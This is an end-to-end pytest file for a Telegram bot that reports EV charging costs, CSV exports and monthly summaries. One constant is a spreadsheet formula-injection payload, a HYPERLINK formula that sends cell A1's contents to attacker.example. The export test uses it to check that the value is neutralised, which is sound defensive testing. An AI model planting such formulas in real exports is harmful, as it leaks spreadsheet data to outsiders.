"""What charging costs, over the whole stack: /costs and /history figures, /export parsed back equal to the
stored sessions, the monthly summary once across a restart, the away price typed after a tap."""

from __future__ import annotations

import csv
import dataclasses
import io
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from pathlib import Path

import pytest

from bot.app.parts import CATALOGS
from bot.domain.history import BatteryReading, ChargeSession
from bot.features.costs.logic import Place
from bot.features.costs.store import SqlCostStore
from bot.features.history.store import SqlHistoryRepository
from bot.services.errors import InvalidInput
from bot.simulator.telegram import EmulatedUser
from tests.e2e.harness import E2E, EMAIL, PASSWORD, login, running_e2e
from tests.support.chat import reply_to, send_and_wait, text_of, texts

WAIT = 10.0
VIN = "VF1AG000012345678"
CHAT = 1001
NOW = datetime(2026, 11, 20, 12, 0, tzinfo=UTC)  # chat zone UTC; tariff: 0.10 from 22:00 to 06:00, else 0.30
PLUGGED = datetime(2026, 11, 18, 19, 0, tzinfo=UTC)
NIGHT = datetime(2026, 11, 18, 22, 0, tzinfo=UTC)
OCTOBER = datetime(2026, 10, 5, 10, 0, tzinfo=UTC)
HOSTILE_PLATE = '=HYPERLINK("https://attacker.example/?"&A1,"AB-123-CD")'


async def _linked(e2e: E2E, plate: str | None = None) -> tuple[EmulatedUser, int]:
    account = e2e.sim.add_account(EMAIL, PASSWORD)
    e2e.sim.add_vehicle(account, "X102VE", vin=VIN, battery_level=40, plate=plate)
    ann = e2e.emulator.user(CHAT, "Ann")
    await login(ann, EMAIL, PASSWORD)
    await ann.wait_until(lambda u: any(t.startswith("Linked!") for t in texts(u)), timeout=WAIT)
    await send_and_wait(ann, "/smarttariff fixed 0.30 0.10 22:00 06:00")
    assert e2e.core is not None
    # These figures are worked out in UTC: the chat leaves its login country's zone (Europe/London).
    settings = await e2e.core.settings.chat(CHAT, "en")
    await e2e.core.settings.save_chat(dataclasses.replace(settings, time_zone="UTC"))
    return ann, (await e2e.core.linking.active(CHAT)).vehicle_id


async def _store_history(e2e: E2E, vehicle_id: int) -> None:
    """A plugged evening then a night charge 40 → 80 %, an October day charge 30 → 40 %, two mileages."""
    history = SqlHistoryRepository(e2e.db)
    readings = [
        BatteryReading(vehicle_id, datetime(2026, 11, 1, 8, tzinfo=UTC), 60, 200.0, mileage_km=10_000.0),
        *(
            BatteryReading(vehicle_id, PLUGGED + timedelta(hours=h), 40, 150.0, plugged=True)
            for h in range(3)
        ),
        BatteryReading(vehicle_id, NIGHT, 40, 150.0, charging=True, plugged=True, power_kw=7.4),
        BatteryReading(vehicle_id, NIGHT + timedelta(hours=4), 80, 300.0, plugged=True, mileage_km=10_500.0),
        BatteryReading(vehicle_id, OCTOBER, 30, 100.0, charging=True, plugged=True),
        BatteryReading(vehicle_id, OCTOBER + timedelta(hours=1), 40, 130.0, plugged=True),
    ]
    for reading in readings:
        assert await history.add_reading(reading)
    await history.add_session(ChargeSession(vehicle_id, NIGHT, NIGHT + timedelta(hours=4), 40, 80, 20.8))
    await history.add_session(ChargeSession(vehicle_id, OCTOBER, OCTOBER + timedelta(hours=1), 30, 40, 5.2))


async def test_costs_prices_each_session_with_the_tariff_and_shows_the_savings(tmp_path: Path) -> None:
    async with running_e2e(tmp_path, start=NOW) as e2e:
        ann, vehicle_id = await _linked(e2e)
        await _store_history(e2e, vehicle_id)
        before = len(ann.bot_messages)
        await ann.send("/costs")
        await ann.wait_until(
            lambda u: any(m.photo is not None for m in u.bot_messages[before:]), timeout=WAIT
        )
        text = next(m.text or "" for m in ann.bot_messages[before:] if m.text)
        # 20.8 kWh in the battery / 0.9 = 23.1 kWh from the grid, all off-peak at 0.10
        assert "This month: 1 session · 23.1 kWh · 2.31 EUR · 0.100 EUR/kWh" in text
        # 500 km in November; plugged at 19:00, charging at once would have cost 3 h peak + 1 h off-peak
        assert "0.46 EUR/100 km · saved 3.47 EUR" in text
        assert "Oct 2026: 1 session · 5.8 kWh · 1.73 EUR · 0.300 EUR/kWh" in text
        assert "Last 12 months: 2 sessions · 28.9 kWh · 4.04 EUR" in text

        stored = await SqlCostStore(e2e.db, e2e.cipher).costs(CHAT, OCTOBER - timedelta(days=1), NOW)
        night = next(c for c in stored if c.started_at == NIGHT)
        assert night.cost == Decimal("2.311111")
        assert night.at_plug_in == Decimal("5.777778")
        assert night.plugged_at == PLUGGED
        assert night.place is Place.HOME

        history = await send_and_wait(ann, "/history")
        assert "2.31 EUR" in text_of(ann, history) or any("2.31 EUR" in t for t in texts(ann)[-3:])


async def test_export_sends_a_csv_that_parses_back_to_the_stored_sessions(tmp_path: Path) -> None:
    async with running_e2e(tmp_path, start=NOW) as e2e:
        # A plate is typed by the owner in MyRenault: as a formula it must reach the spreadsheet as text.
        ann, vehicle_id = await _linked(e2e, plate=HOSTILE_PLATE)
        await _store_history(e2e, vehicle_id)
        ask = await send_and_wait(ann, "/export")
        before = len(ann.bot_messages)
        await ann.tap(ask, "Everything stored")
        await ann.wait_until(
            lambda u: any(m.document is not None for m in u.bot_messages[before:]), timeout=WAIT
        )
        message = next(m for m in ann.bot_messages[before:] if m.document is not None)
        assert message.document is not None
        assert message.document.filename == "charging-all.csv"
        assert message.caption == "2 sessions and 8 readings, times in UTC."
        rows = list(csv.DictReader(io.StringIO(message.document.data.decode("utf-8"))))

        store = SqlCostStore(e2e.db, e2e.cipher)
        sessions = await store.sessions(vehicle_id, datetime(2000, 1, 1, tzinfo=UTC), NOW)
        costs = {c.started_at: c for c in await store.costs(CHAT, datetime(2000, 1, 1, tzinfo=UTC), NOW)}
        exported = [r for r in rows if r["record"] == "session"]
        assert [
            (
                datetime.fromisoformat(r["start_time"]),
                datetime.fromisoformat(r["end_time"]),
                int(r["level_start_pct"]),
                int(r["level_end_pct"]),
                Decimal(r["cost"]),
                r["currency"],
                Decimal(r["grid_energy_kwh"]),
            )
            for r in exported
        ] == [
            (
                s.started_at,
                s.ended_at,
                s.start_level,
                s.end_level,
                costs[s.started_at].cost,
                costs[s.started_at].currency,
                costs[s.started_at].grid_kwh,
            )
            for s in sessions
        ]
        readings = [r for r in rows if r["record"] == "reading"]
        assert len(readings) == 8
        assert {r["vehicle"] for r in rows} == {f"'{HOSTILE_PLATE}"}
        assert readings[0]["start_time"] == "2026-10-05T10:00:00+00:00"
        assert readings[0]["charging"] == "true"
        assert {"level_pct", "range_km", "power_kw", "mileage_km", "cost"} <= set(rows[0])


async def test_the_monthly_summary_is_sent_once_across_a_restart(tmp_path: Path) -> None:
    async with running_e2e(tmp_path, start=NOW) as e2e:
        ann, vehicle_id = await _linked(e2e)
        await _store_history(e2e, vehicle_id)
        assert e2e.core is not None
        e2e.clock.set(datetime(2026, 12, 1, 8, 59, tzinfo=UTC))
        assert (await e2e.core.costs.send_monthly_summaries()).sent == 0  # not 09:00 yet
        e2e.clock.set(datetime(2026, 12, 1, 9, 5, tzinfo=UTC))
        before = len(ann.bot_messages)
        assert (await e2e.core.costs.send_monthly_summaries()).sent == 1
        await ann.wait_until(lambda u: len(u.bot_messages) > before, timeout=WAIT)
        summary = ann.bot_messages[-1].text or ""
        assert summary.startswith("📊 Nov 2026: 1 session, 23.1 kWh, 2.31 EUR")
        assert "saved 3.47 EUR" in summary

        await e2e.restart()
        assert e2e.core is not None
        e2e.clock.set(datetime(2026, 12, 1, 12, 0, tzinfo=UTC))
        report = await e2e.core.costs.send_monthly_summaries()
        assert report.sent == 0
        assert len([t for t in texts(ann) if t.startswith("📊")]) == 1


async def _asked_for_an_away_price(e2e: E2E) -> tuple[EmulatedUser, datetime]:
    """Home set where the car stands, a charge 20 km away, its price asked for; the user and its start."""
    ann, vehicle_id = await _linked(e2e)
    assert e2e.core is not None
    await ann.send_location(48.8566, 2.3522)  # the simulated car stands here
    await ann.wait_until(lambda u: "as home" in (u.bot_messages[-1].text or ""), timeout=WAIT)
    await ann.tap(ann.bot_messages[-1], "🏠 Set as home")
    await ann.wait_until(lambda u: "Home saved (radius 150 m)." in texts(u), timeout=WAIT)
    # A charge starts 20 km away: while it charges, the bot notes where it is.
    e2e.sim.move(VIN, 48.99, 2.5)
    start = NOW - timedelta(hours=3)
    history = SqlHistoryRepository(e2e.db)
    await history.add_session(ChargeSession(vehicle_id, start, None, 20, 30, None))
    assert await e2e.core.costs.capture_places() == 1
    await history.add_session(ChargeSession(vehicle_id, start, start + timedelta(hours=1), 20, 60, 20.8))
    shown = await send_and_wait(ann, "/history")
    assert "away from home" in text_of(ann, shown)
    await ann.tap(shown, "💶 Price 20 Nov, 09:00")
    await ann.wait_until(lambda u: "send its price per kWh" in (u.bot_messages[-1].text or ""), timeout=WAIT)
    return ann, start


async def test_an_away_charge_is_priced_by_a_typed_price_after_bad_inputs(tmp_path: Path) -> None:
    async with running_e2e(tmp_path, start=NOW) as e2e:
        ann, start = await _asked_for_an_away_price(e2e)
        assert e2e.core is not None
        for bad, answer in (
            ("cheap", "That is not a number."),
            ("-0.2", "A price cannot be negative."),
            ("7", "That looks like a typo"),
        ):
            reply = await send_and_wait(ann, bad)
            assert text_of(ann, reply).startswith(answer)
        stored = await SqlCostStore(e2e.db, e2e.cipher).costs(CHAT, start, NOW)
        assert stored[0].cost is None  # nothing stored wrong
        saved = await send_and_wait(ann, "0,45")
        # 20.8 kWh / 0.9 = 23.111111 kWh at 0.45
        assert text_of(ann, saved) == "Saved: that charge cost 10.40 EUR."
        stored = await SqlCostStore(e2e.db, e2e.cipher).costs(CHAT, start, NOW)
        assert stored[0].cost == Decimal("10.400000")
        assert stored[0].place is Place.AWAY
        assert await e2e.core.costs.awaiting_price(CHAT) is None  # the next text is not a price any more


async def test_a_home_outside_the_world_is_refused_and_nothing_is_stored(tmp_path: Path) -> None:
    async with running_e2e(tmp_path, start=NOW) as e2e:
        await _linked(e2e)
        assert e2e.core is not None
        with pytest.raises(InvalidInput):
            await e2e.core.costs.set_home(CHAT, 95.0, 2.0)
        assert (await e2e.core.costs.settings(CHAT)).home is None


async def test_home_and_costs_settings_by_buttons_and_the_summary_switched_off(tmp_path: Path) -> None:
    async with running_e2e(tmp_path, start=NOW) as e2e:
        ann, vehicle_id = await _linked(e2e)
        await _store_history(e2e, vehicle_id)
        menu = await send_and_wait(ann, "/settings")
        await ann.tap(menu, "🏠 Home & costs")
        await ann.wait_until(lambda u: "Home: not set" in text_of(u, menu), timeout=WAIT)
        await ann.tap(menu, "🚗 Car's position is home")
        await ann.wait_until(lambda u: "Home: set, radius 150 m" in text_of(u, menu), timeout=WAIT)
        await ann.tap(menu, "Radius 150 m")
        await ann.wait_until(lambda u: "Home: set, radius 300 m" in text_of(u, menu), timeout=WAIT)
        await ann.tap(menu, "Loss 10%")
        await ann.wait_until(lambda u: "Charging loss: 15%" in text_of(u, menu), timeout=WAIT)
        await ann.tap(menu, "Monthly summary: on")
        await ann.wait_until(lambda u: "Monthly summary (1st, 09:00): off" in text_of(u, menu), timeout=WAIT)
        assert e2e.core is not None
        settings = await e2e.core.costs.settings(CHAT)
        assert settings.home is not None
        assert (round(settings.home.latitude, 4), settings.home.radius_m) == (48.8566, 300)
        assert settings.loss == Decimal("0.15")
        e2e.clock.set(datetime(2026, 12, 1, 9, 5, tzinfo=UTC))
        assert (await e2e.core.costs.send_monthly_summaries()).sent == 0


async def test_a_running_login_takes_the_text_before_a_pending_price_question(tmp_path: Path) -> None:
    async with running_e2e(tmp_path, start=NOW) as e2e:
        ann, start = await _asked_for_an_away_price(e2e)
        assert e2e.core is not None
        countries = ann.message(await send_and_wait(ann, "/login"))
        assert countries is not None
        await ann.tap(countries, countries.buttons[0].text)
        ask = "Send me the e-mail address of your MyRenault account."
        await ann.wait_until(lambda u: (u.bot_messages[-1].text or "") == ask, timeout=WAIT)
        asked = await send_and_wait(ann, "0.45")  # the login asked for an e-mail: this is not a price now
        assert text_of(ann, asked) == "That does not look like an e-mail address. Please send it again."
        assert await e2e.core.costs.awaiting_price(CHAT) is not None
        stored = await SqlCostStore(e2e.db, e2e.cipher).costs(CHAT, start, NOW)
        assert stored[0].cost is None
        await send_and_wait(ann, "/cancel")
        saved = await send_and_wait(ann, "0.45")
        assert text_of(ann, saved) == "Saved: that charge cost 10.40 EUR."


async def test_cancel_forgets_a_pending_price_question(tmp_path: Path) -> None:
    # The question lives in the cost store, not in the screen focus: /cancel leaves it through its state.
    tr = CATALOGS.translator("en")
    async with running_e2e(tmp_path, start=NOW) as e2e:
        ann, start = await _asked_for_an_away_price(e2e)
        assert e2e.core is not None
        # By its text: /history's chart may still be on its way.
        await reply_to(ann, "/cancel", tr("router.cancelled"))
        assert await e2e.core.costs.awaiting_price(CHAT) is None
        await ann.send("0.45")  # a number, no longer a price
        # A chat's updates are handled in order: once this is answered, the number was too.
        await reply_to(ann, "/cancel", tr("cancel.nothing"))
        stored = await SqlCostStore(e2e.db, e2e.cipher).costs(CHAT, start, NOW)
        assert stored[0].cost is None
